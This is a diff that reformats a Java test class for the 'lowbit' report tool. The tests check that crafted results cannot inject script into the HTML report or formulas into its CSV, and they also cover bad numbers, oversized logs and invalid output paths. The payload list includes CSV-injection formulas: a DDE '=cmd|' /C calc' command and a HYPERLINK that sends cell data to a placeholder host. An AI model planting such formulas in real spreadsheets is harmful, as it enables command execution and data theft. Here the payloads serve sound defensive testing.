@@ -63,8 +63,12 @@ class UntrustedResultsCliTest {
             "{{title}}{{{dataJson}}}");
 
     /** Cells a spreadsheet would evaluate (OWASP, "CSV Injection"). */
-    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"click\")", "+1+2",
-            "@SUM(1,2)", "=cmd|' /C calc'!A0", "-2+3");
+    static final List<String> FORMULAS = List.of(
+            "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"click\")",
+            "+1+2",
+            "@SUM(1,2)",
+            "=cmd|' /C calc'!A0",
+            "-2+3");
 
     static final Path CHROMIUM = Path.of("/usr/bin/chromium");
     static final Path CHROMEDRIVER = Path.of("/usr/bin/chromedriver");
@@ -82,7 +86,11 @@ class UntrustedResultsCliTest {
     private Path writeCraftedRuns(List<String> payloads) {
         CraftedResults.writeValidStudy(results());
         for (int i = 0; i < payloads.size(); i++) {
-            CraftedResults.write(results(), "crafted", "run" + i, CraftedResults.crafted(payloads.get(i)),
+            CraftedResults.write(
+                    results(),
+                    "crafted",
+                    "run" + i,
+                    CraftedResults.crafted(payloads.get(i)),
                     CraftedResults.craftedEpochs(payloads.get(i)));
         }
         return results();
@@ -96,7 +104,9 @@ class UntrustedResultsCliTest {
         CliTest.Result result = lowbit("report", results().toString(), "-o", page.toString());
 
         assertThat(result.exitCode()).as(result.err()).isZero();
-        assertThat(result.err()).as("every crafted run has valid numbers and is shown").isEmpty();
+        assertThat(result.err())
+                .as("every crafted run has valid numbers and is shown")
+                .isEmpty();
         assertNoMarkupFromThePayloads(Jsoup.parse(page.toFile()));
         assertNoScriptRunsInChromium(page);
     }
@@ -106,12 +116,17 @@ class UntrustedResultsCliTest {
         assertThat(page.title()).isEqualTo("lowbit report");
         assertThat(page.select("script")).as("script elements").hasSize(1);
         assertThat(page.selectFirst("script").id()).isEqualTo("lowbit-data");
-        assertThat(page.select("img, iframe, object, embed, image, foreignObject")).as("injected elements").isEmpty();
+        assertThat(page.select("img, iframe, object, embed, image, foreignObject"))
+                .as("injected elements")
+                .isEmpty();
         Set<String> textAttributes = Set.of("data-run-id", "data-runs", "title");
         for (Element element : page.getAllElements()) {
             for (Attribute attribute : element.attributes()) {
-                assertThat(attribute.getKey().toLowerCase(Locale.ROOT)).as("attribute of <%s>", element.tagName())
-                        .doesNotStartWith("on").doesNotContain("lowbitpwned").doesNotContain("srcdoc");
+                assertThat(attribute.getKey().toLowerCase(Locale.ROOT))
+                        .as("attribute of <%s>", element.tagName())
+                        .doesNotStartWith("on")
+                        .doesNotContain("lowbitpwned")
+                        .doesNotContain("srcdoc");
                 if (attribute.getValue().contains("lowbitPwned")) {
                     // Payload text is allowed where it is inert text, and in a run's anchor once slugged.
                     boolean slug = Set.of("id", "href").contains(attribute.getKey())
@@ -135,11 +150,19 @@ class UntrustedResultsCliTest {
                 .as("this test needs %s and %s: apt-get install chromium chromium-driver", CHROMIUM, CHROMEDRIVER)
                 .isTrue();
         ChromeDriverService service = new ChromeDriverService.Builder()
-                .usingDriverExecutable(CHROMEDRIVER.toFile()).usingAnyFreePort().build();
+                .usingDriverExecutable(CHROMEDRIVER.toFile())
+                .usingAnyFreePort()
+                .build();
         ChromeOptions options = new ChromeOptions();
         options.setBinary(CHROMIUM.toFile());
-        options.addArguments("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
-                "--no-first-run", "--disable-extensions", "--disable-background-networking",
+        options.addArguments(
+                "--headless=new",
+                "--no-sandbox",
+                "--disable-dev-shm-usage",
+                "--disable-gpu",
+                "--no-first-run",
+                "--disable-extensions",
+                "--disable-background-networking",
                 "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost");
         ChromeDriver browser = new ChromeDriver(service, options);
         try {
@@ -147,13 +170,18 @@ class UntrustedResultsCliTest {
             browser.get(page.toUri().toString());
             // The per-run sections are collapsed; opening them renders their SVG as a reader would.
             browser.executeScript("document.querySelectorAll('details').forEach(d => d.open = true)");
-            assertThat((String) browser.executeScript("return document.readyState")).isEqualTo("complete");
+            assertThat((String) browser.executeScript("return document.readyState"))
+                    .isEqualTo("complete");
             assertThat(browser.getTitle()).isEqualTo("lowbit report");
-            assertThat(browser.executeScript("return typeof window.lowbitPwned")).as("a payload ran")
+            assertThat(browser.executeScript("return typeof window.lowbitPwned"))
+                    .as("a payload ran")
                     .isEqualTo("undefined");
-            assertThat((Long) browser.executeScript("return document.scripts.length")).isEqualTo(1L);
-            assertThat((Long) browser.executeScript(
-                    "return document.querySelectorAll('img, iframe, object, embed, image, foreignObject').length"))
+            assertThat((Long) browser.executeScript("return document.scripts.length"))
+                    .isEqualTo(1L);
+            assertThat(
+                            (Long)
+                                    browser.executeScript(
+                                            "return document.querySelectorAll('img, iframe, object, embed, image, foreignObject').length"))
                     .isZero();
             @SuppressWarnings("unchecked")
             List<String> handlers = (List<String>) browser.executeScript("""
@@ -181,47 +209,71 @@ class UntrustedResultsCliTest {
 
         assertThat(result.exitCode()).as(result.err()).isZero();
         List<List<String>> rows = new ArrayList<>();
-        try (MappingIterator<List<String>> cells = new CsvMapper().readerForListOf(String.class)
-                .with(CsvParser.Feature.WRAP_AS_ARRAY).readValues(dir.resolve("report").resolve("index.csv").toFile())) {
+        try (MappingIterator<List<String>> cells = new CsvMapper()
+                .readerForListOf(String.class)
+                .with(CsvParser.Feature.WRAP_AS_ARRAY)
+                .readValues(dir.resolve("report").resolve("index.csv").toFile())) {
             cells.forEachRemaining(rows::add);
         }
         assertThat(rows).hasSize(1 + 2 + FORMULAS.size());
         List<String> header = rows.get(0);
         for (List<String> row : rows.subList(1, rows.size())) {
-            for (String column : List.of("runId", "suite", "dataset", "architecture", "quantizer", "layerPolicy",
-                    "recipe", "epochsToParity", "status")) {
+            for (String column : List.of(
+                    "runId",
+                    "suite",
+                    "dataset",
+                    "architecture",
+                    "quantizer",
+                    "layerPolicy",
+                    "recipe",
+                    "epochsToParity",
+                    "status")) {
                 String cell = row.get(header.indexOf(column));
-                assertThat(cell.isEmpty() ? ' ' : cell.stripLeading().charAt(0)).as("%s cell '%s'", column, cell)
+                assertThat(cell.isEmpty() ? ' ' : cell.stripLeading().charAt(0))
+                        .as("%s cell '%s'", column, cell)
                         .isNotIn('=', '+', '-', '@', '\t', '\r');
             }
         }
         // The formulas are kept, as text a spreadsheet shows: the leading ' only tells it so.
-        assertThat(rows).extracting(row -> row.get(header.indexOf("runId")))
+        assertThat(rows)
+                .extracting(row -> row.get(header.indexOf("runId")))
                 .containsAll(FORMULAS.stream().map(formula -> "'" + formula).toList());
         // Numbers stay numbers: the ternary run is 1.4 points below its fp32 twin, written as such.
         String ternary = Files.readAllLines(dir.resolve("report").resolve("index.csv")).stream()
-                .filter(line -> line.startsWith("\"fcnn-small.ternary.s1\"")).findFirst().orElseThrow();
+                .filter(line -> line.startsWith("\"fcnn-small.ternary.s1\""))
+                .findFirst()
+                .orElseThrow();
         assertThat(ternary).containsPattern(",-1\\.[0-9]+,").doesNotContain("'-1");
     }
 
     @ParameterizedTest
-    @CsvSource(delimiter = '|', value = {
-        "run.json     | testAccuracy            | Infinity",
-        "run.json     | testAccuracy            | 1.5",
-        "run.json     | quantizer.bitsPerWeight | Infinity",
-        "run.json     | quantizer.bitsPerWeight | -1",
-        "run.json     | quantizer.bitsPerWeight | 65",
-        "epochs.jsonl | validationAccuracy      | Infinity",
-        "epochs.jsonl | flipRatio               | 1e308",
-    })
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "run.json     | testAccuracy            | Infinity",
+                "run.json     | testAccuracy            | 1.5",
+                "run.json     | quantizer.bitsPerWeight | Infinity",
+                "run.json     | quantizer.bitsPerWeight | -1",
+                "run.json     | quantizer.bitsPerWeight | 65",
+                "epochs.jsonl | validationAccuracy      | Infinity",
+                "epochs.jsonl | flipRatio               | 1e308",
+            })
     void oneAbsurdNumberCostsItsRunAWarningAndTheReportIsWritten(String file, String field, String value)
             throws IOException {
         CraftedResults.writeValidStudy(results());
-        Path bad = CraftedResults.write(results(), "quick", "fcnn-small.binary.s1", CraftedResults.finished(
-                "fcnn-small.binary.s1", CraftedResults.quick("fcnn-small", "binary"), CraftedResults.ternary(), 0.7),
+        Path bad = CraftedResults.write(
+                results(),
+                "quick",
+                "fcnn-small.binary.s1",
+                CraftedResults.finished(
+                        "fcnn-small.binary.s1",
+                        CraftedResults.quick("fcnn-small", "binary"),
+                        CraftedResults.ternary(),
+                        0.7),
                 CraftedResults.epochs());
         if (file.equals("run.json")) {
-            ObjectNode run = (ObjectNode) CraftedResults.JSON.readTree(bad.resolve(file).toFile());
+            ObjectNode run =
+                    (ObjectNode) CraftedResults.JSON.readTree(bad.resolve(file).toFile());
             ObjectNode owner = field.contains(".") ? (ObjectNode) run.get(field.substring(0, field.indexOf('.'))) : run;
             owner.put(field.substring(field.indexOf('.') + 1), Double.parseDouble(value));
             Files.writeString(bad.resolve(file), CraftedResults.JSON.writeValueAsString(run));
@@ -237,14 +289,20 @@ class UntrustedResultsCliTest {
         CliTest.Result result = lowbit("report", results().toString(), "-o", page.toString());
 
         assertThat(result.exitCode()).as(result.err()).isZero();
-        assertThat(result.err().lines()).singleElement().asString()
-                .startsWith("warning: skipping run '" + bad + "': " + (file.equals("run.json") ? "run.json" :
-                        "epochs.jsonl line 2") + ": '" + field + "' is " + Double.parseDouble(value) + "; allowed: ")
+        assertThat(result.err().lines())
+                .singleElement()
+                .asString()
+                .startsWith("warning: skipping run '" + bad + "': "
+                        + (file.equals("run.json") ? "run.json" : "epochs.jsonl line 2") + ": '" + field + "' is "
+                        + Double.parseDouble(value) + "; allowed: ")
                 .endsWith("The file is damaged or was edited: delete the run's folder and run it again");
         Document report = Jsoup.parse(page.toFile());
         assertThat(report.select("table#runs tbody tr").eachAttr("data-run-id"))
                 .containsExactly("fcnn-small.fp32.s1", "fcnn-small.ternary.s1");
-        assertThat(report.select("#skipped li").eachText()).singleElement().asString().contains("'" + field + "'");
+        assertThat(report.select("#skipped li").eachText())
+                .singleElement()
+                .asString()
+                .contains("'" + field + "'");
         assertThat(report.select("figure svg")).as("the charts are drawn").isNotEmpty();
     }
 
@@ -261,10 +319,23 @@ class UntrustedResultsCliTest {
                 + "\"beyondOutermostShare\":0.2209856727860286,\"lossSpikes\":0,\"levelOccupancy\":{"
                 + "\"04QuantizedLinear_weight\":[287627,481678,279271],\"06QuantizedLinear_weight\":[2767,4742,2731],"
                 + "\"02QuantizedLinear_weight\":[218280,368367,216169]}}";
-        writeEpochs(CraftedResults.write(results(), "quick", "huge", CraftedResults.finished("huge",
-                CraftedResults.quick("fcnn-large", "fp32"), CraftedResults.fp32(), 0.8), List.of()), realistic);
-        writeEpochs(CraftedResults.write(results(), "quick", "long", CraftedResults.finished("long",
-                CraftedResults.quick("cnn-small", "fp32"), CraftedResults.fp32(), 0.8), List.of()),
+        writeEpochs(
+                CraftedResults.write(
+                        results(),
+                        "quick",
+                        "huge",
+                        CraftedResults.finished(
+                                "huge", CraftedResults.quick("fcnn-large", "fp32"), CraftedResults.fp32(), 0.8),
+                        List.of()),
+                realistic);
+        writeEpochs(
+                CraftedResults.write(
+                        results(),
+                        "quick",
+                        "long",
+                        CraftedResults.finished(
+                                "long", CraftedResults.quick("cnn-small", "fp32"), CraftedResults.fp32(), 0.8),
+                        List.of()),
                 "{\"epoch\":%d,\"validationAccuracy\":0.5}");
     }
 
@@ -280,21 +351,29 @@ class UntrustedResultsCliTest {
     @Test
     void epochLogsOf200000LinesAreSkippedWithAWarningAndThePageStaysSmall() throws IOException {
         writeTwoHugeEpochLogs();
-        assertThat(Files.size(results().resolve("quick").resolve("huge").resolve("epochs.jsonl"))).isGreaterThan(80_000_000);
+        assertThat(Files.size(results().resolve("quick").resolve("huge").resolve("epochs.jsonl")))
+                .isGreaterThan(80_000_000);
         Path page = dir.resolve("report").resolve("index.html");
 
         // A bound, not a measurement: before, this took minutes.
-        CliTest.Result result = assertTimeoutPreemptively(Duration.ofSeconds(60),
-                () -> lowbit("report", results().toString(), "-o", page.toString()));
+        CliTest.Result result = assertTimeoutPreemptively(
+                Duration.ofSeconds(60), () -> lowbit("report", results().toString(), "-o", page.toString()));
 
         assertThat(result.exitCode()).as(result.err()).isZero();
-        assertThat(result.err().lines()).containsExactly(
-                "warning: skipping run '" + results().resolve("quick").resolve("huge") + "': epochs.jsonl is "
-                        + String.format(Locale.ROOT, "%,d", Files.size(results().resolve("quick").resolve("huge")
-                                .resolve("epochs.jsonl")))
-                        + " bytes, more than the 16 MiB a report reads for one run (README, \"The report\")",
-                "warning: skipping run '" + results().resolve("quick").resolve("long") + "': epochs.jsonl holds more"
-                        + " than 1000 epochs, the most a report draws for one run (README, \"The report\")");
+        assertThat(result.err().lines())
+                .containsExactly(
+                        "warning: skipping run '" + results().resolve("quick").resolve("huge") + "': epochs.jsonl is "
+                                + String.format(
+                                        Locale.ROOT,
+                                        "%,d",
+                                        Files.size(results()
+                                                .resolve("quick")
+                                                .resolve("huge")
+                                                .resolve("epochs.jsonl")))
+                                + " bytes, more than the 16 MiB a report reads for one run (README, \"The report\")",
+                        "warning: skipping run '" + results().resolve("quick").resolve("long")
+                                + "': epochs.jsonl holds more"
+                                + " than 1000 epochs, the most a report draws for one run (README, \"The report\")");
         assertThat(Files.size(page)).as("the page's bytes").isLessThan(1_000_000);
         assertThat(Jsoup.parse(page.toFile()).select("table#runs tbody tr")).hasSize(2);
     }
@@ -304,11 +383,21 @@ class UntrustedResultsCliTest {
         writeTwoHugeEpochLogs();
         Path page = dir.resolve("report").resolve("index.html");
         Path log = dir.resolve("child.log");
-        List<String> command = List.of(Path.of(System.getProperty("java.home"), "bin", "java").toString(), "-Xmx256m",
-                "-cp", System.getProperty("java.class.path"), Main.class.getName(), "report", results().toString(),
-                "-o", page.toString());
+        List<String> command = List.of(
+                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
+                "-Xmx256m",
+                "-cp",
+                System.getProperty("java.class.path"),
+                Main.class.getName(),
+                "report",
+                results().toString(),
+                "-o",
+                page.toString());
 
-        Process child = new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(log.toFile()).start();
+        Process child = new ProcessBuilder(command)
+                .redirectErrorStream(true)
+                .redirectOutput(log.toFile())
+                .start();
         boolean exited = child.waitFor(120, TimeUnit.SECONDS);
         if (!exited) {
             child.destroyForcibly();
@@ -317,7 +406,10 @@ class UntrustedResultsCliTest {
         String output = Files.readString(log);
         assertThat(exited).as("the report finished: %s", output).isTrue();
         assertThat(child.exitValue()).as(output).isZero();
-        assertThat(output).doesNotContain("OutOfMemoryError").contains("epochs.jsonl is ").contains("Report: ");
+        assertThat(output)
+                .doesNotContain("OutOfMemoryError")
+                .contains("epochs.jsonl is ")
+                .contains("Report: ");
     }
 
     @Test
@@ -328,8 +420,9 @@ class UntrustedResultsCliTest {
         CliTest.Result result = lowbit("report", results().toString(), "-o", folder.toString());
 
         assertThat(result.exitCode()).isEqualTo(2);
-        assertThat(result.err()).isEqualTo("lowbit: Cannot write the report to '" + folder + "': it is a directory. Give"
-                + " a file name, e.g. -o " + folder.resolve("index.html") + "." + System.lineSeparator());
+        assertThat(result.err())
+                .isEqualTo("lowbit: Cannot write the report to '" + folder + "': it is a directory. Give"
+                        + " a file name, e.g. -o " + folder.resolve("index.html") + "." + System.lineSeparator());
         assertThat(filesUnder(dir.resolve("out"))).containsExactly(folder);
     }
 
@@ -338,13 +431,18 @@ class UntrustedResultsCliTest {
         CraftedResults.writeValidStudy(results());
         Path file = Files.writeString(dir.resolve("notes.txt"), "notes");
 
-        CliTest.Result result = lowbit("report", results().toString(), "-o", file.resolve("report").resolve("index.html")
-                .toString());
+        CliTest.Result result = lowbit(
+                "report",
+                results().toString(),
+                "-o",
+                file.resolve("report").resolve("index.html").toString());
 
         assertThat(result.exitCode()).isEqualTo(2);
-        assertThat(result.err()).isEqualTo("lowbit: Cannot write the report to '" + file.resolve("report")
-                .resolve("index.html") + "': '" + file + "' is a file, not a directory. Give -o a path in a directory,"
-                + " e.g. -o report/index.html." + System.lineSeparator());
+        assertThat(result.err())
+                .isEqualTo("lowbit: Cannot write the report to '"
+                        + file.resolve("report").resolve("index.html") + "': '" + file
+                        + "' is a file, not a directory. Give -o a path in a directory,"
+                        + " e.g. -o report/index.html." + System.lineSeparator());
         assertThat(Files.readString(file)).isEqualTo("notes");
     }
 
@@ -357,23 +455,26 @@ class UntrustedResultsCliTest {
         CliTest.Result result = lowbit("report", results().toString(), "-o", target.toString());
 
         assertThat(result.exitCode()).isEqualTo(2);
-        assertThat(result.err()).startsWith("lowbit: Cannot write the report to '" + target + "': writing a file in"
-                + " '/proc/1' failed (").endsWith("). Give -o a file in a folder you can write to."
-                + System.lineSeparator());
+        assertThat(result.err())
+                .startsWith("lowbit: Cannot write the report to '" + target + "': writing a file in"
+                        + " '/proc/1' failed (")
+                .endsWith("). Give -o a file in a folder you can write to." + System.lineSeparator());
         assertThat(result.err().lines()).hasSize(1);
     }
 
     @Test
     void theCsvBesideTheReportBeingADirectoryLeavesTheOldReportAlone() throws IOException {
         CraftedResults.writeValidStudy(results());
-        Path page = Files.writeString(Files.createDirectories(dir.resolve("out")).resolve("index.html"), "old report");
+        Path page =
+                Files.writeString(Files.createDirectories(dir.resolve("out")).resolve("index.html"), "old report");
         Path csv = Files.createDirectories(dir.resolve("out").resolve("index.csv"));
 
         CliTest.Result result = lowbit("report", results().toString(), "-o", page.toString());
 
         assertThat(result.exitCode()).isEqualTo(2);
-        assertThat(result.err()).isEqualTo("lowbit: Cannot write the CSV beside the report to '" + csv + "': it is a"
-                + " directory. Remove it or give -o another file name." + System.lineSeparator());
+        assertThat(result.err())
+                .isEqualTo("lowbit: Cannot write the CSV beside the report to '" + csv + "': it is a"
+                        + " directory. Remove it or give -o another file name." + System.lineSeparator());
         assertThat(Files.readString(page)).isEqualTo("old report");
         assertThat(filesUnder(dir.resolve("out"))).containsExactlyInAnyOrder(page, csv);
     }
@@ -388,9 +489,10 @@ class UntrustedResultsCliTest {
         CliTest.Result result = lowbit("report", results().toString());
 
         assertThat(result.exitCode()).isEqualTo(2);
-        assertThat(result.err()).isEqualTo("lowbit: '" + link + "' is a symbolic link; lowbit writes the report into"
-                + " the results folder only when 'report' there is a real folder. Remove the link, or give -o FILE."
-                + System.lineSeparator());
+        assertThat(result.err())
+                .isEqualTo("lowbit: '" + link + "' is a symbolic link; lowbit writes the report into"
+                        + " the results folder only when 'report' there is a real folder. Remove the link, or give -o FILE."
+                        + System.lineSeparator());
         assertThat(filesUnder(elsewhere)).containsExactly(elsewhere.resolve("index.html"));
         assertThat(Files.readString(elsewhere.resolve("index.html"))).isEqualTo("someone's own page");
     }
@@ -401,27 +503,47 @@ class UntrustedResultsCliTest {
         RunConfig planned = CraftedResults.quick("fcnn-small", "fp32");
         String runId = RunIds.of(planned);
         Path out = dir.resolve("results");
-        CraftedResults.write(out, "quick", runId, CraftedResults.finished(runId, planned, CraftedResults.fp32(), 0.875),
+        CraftedResults.write(
+                out,
+                "quick",
+                runId,
+                CraftedResults.finished(runId, planned, CraftedResults.fp32(), 0.875),
                 CraftedResults.epochs());
         CliTest.Result plan = lowbit("plan", "--arch", "fcnn-small", "--quantizer", "fp32", "--out", out.toString());
-        assertThat(plan.out()).as("the crafted run is the planned one").contains(runId).contains("1 runs, 1 done");
+        assertThat(plan.out())
+                .as("the crafted run is the planned one")
+                .contains(runId)
+                .contains("1 runs, 1 done");
         for (int i = 0; i < SCRIPT_PAYLOADS.size(); i++) {
-            CraftedResults.write(out, "quick", "crafted" + i, CraftedResults.crafted(SCRIPT_PAYLOADS.get(i)),
+            CraftedResults.write(
+                    out,
+                    "quick",
+                    "crafted" + i,
+                    CraftedResults.crafted(SCRIPT_PAYLOADS.get(i)),
                     CraftedResults.craftedEpochs(SCRIPT_PAYLOADS.get(i)));
         }
-        Path infinite = CraftedResults.write(out, "quick", "infinite", CraftedResults.finished("infinite",
-                CraftedResults.quick("fcnn-large", "fp32"), CraftedResults.fp32(), Double.POSITIVE_INFINITY),
+        Path infinite = CraftedResults.write(
+                out,
+                "quick",
+                "infinite",
+                CraftedResults.finished(
+                        "infinite",
+                        CraftedResults.quick("fcnn-large", "fp32"),
+                        CraftedResults.fp32(),
+                        Double.POSITIVE_INFINITY),
                 CraftedResults.epochs());
 
         CliTest.Result result = lowbit("run", "--arch", "fcnn-small", "--quantizer", "fp32", "--out", out.toString());
 
         assertThat(result.exitCode()).as(result.err()).isZero();
         assertThat(result.out()).contains("Trained 0, skipped 1 finished");
-        assertThat(result.err().lines().filter(line -> line.startsWith("warning: "))).containsExactly(
-                "warning: skipping run '" + infinite + "': run.json: 'testAccuracy' is Infinity; allowed: a fraction"
+        assertThat(result.err().lines().filter(line -> line.startsWith("warning: ")))
+                .containsExactly("warning: skipping run '" + infinite
+                        + "': run.json: 'testAccuracy' is Infinity; allowed: a fraction"
                         + " from 0 to 1, or NaN when there is none. The file is damaged or was edited: delete the"
                         + " run's folder and run it again");
-        assertNoMarkupFromThePayloads(Jsoup.parse(out.resolve("quick").resolve("report").resolve("index.html").toFile()));
+        assertNoMarkupFromThePayloads(Jsoup.parse(
+                out.resolve("quick").resolve("report").resolve("index.html").toFile()));
     }
 
     private static List<Path> filesUnder(Path folder) throws IOException {
